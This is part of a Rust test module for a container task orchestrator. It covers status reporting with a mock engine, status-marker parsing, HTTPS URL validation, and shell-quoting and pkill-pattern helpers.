        assert_eq!(snapshot.error.as_deref(), Some("Container is not running"));
    }

    #[tokio::test]
    async fn test_engine_error_does_not_fail_stopped_task() {
        let mut engine = MockContainerEngine::new();
        engine
            .expect_find()
            .returning(|_| Err(SandboxError::EngineUnavailable("socket refused".into())));
        engine.expect_exec().never();
        let tasks = with_config(Arc::new(engine), task_config(CaptureMode::Offset, 5));
        seed(&tasks, TaskStatus::Stopped).await;

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Stopped);
        assert_eq!(snapshot.error, None);

        seed(&tasks, TaskStatus::Running).await;
        assert_eq!(tasks.status().await.unwrap().status, TaskStatus::Error);
    }

    #[tokio::test]
    async fn test_idle_status_makes_no_engine_call() {
        let engine = running(&Files::default());
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 5);

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Idle);
        assert!(engine.calls().is_empty());
    }

    #[test]
    fn test_marker_parsing() {
        assert_eq!(Marker::parse("running\n"), Marker::Running);
        assert_eq!(Marker::parse("error: port in use"), Marker::Error("port in use".into()));
        assert_eq!(
            Marker::parse("error"),
            Marker::Error("Task helper reported an error".into())
        );
        assert_eq!(Marker::parse(""), Marker::Unknown);
    }

    #[test]
    fn test_secure_url_shape() {
        assert!(is_secure_url("https://example.test"));
        assert!(is_secure_url("https://abc.trycloudflare.com/login?x=1"));
        assert!(!is_secure_url("http://example.test"));
        assert!(!is_secure_url("https://"));
        assert!(!is_secure_url("https://exa mple.test"));
    }

    #[test]
    fn test_quoting() {
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(pkill_pattern("/opt/helper.sh"), "'[/]opt/helper.sh'");
        assert_eq!(pkill_pattern("ssh -R"), "'[s]sh -R'");
    }
}
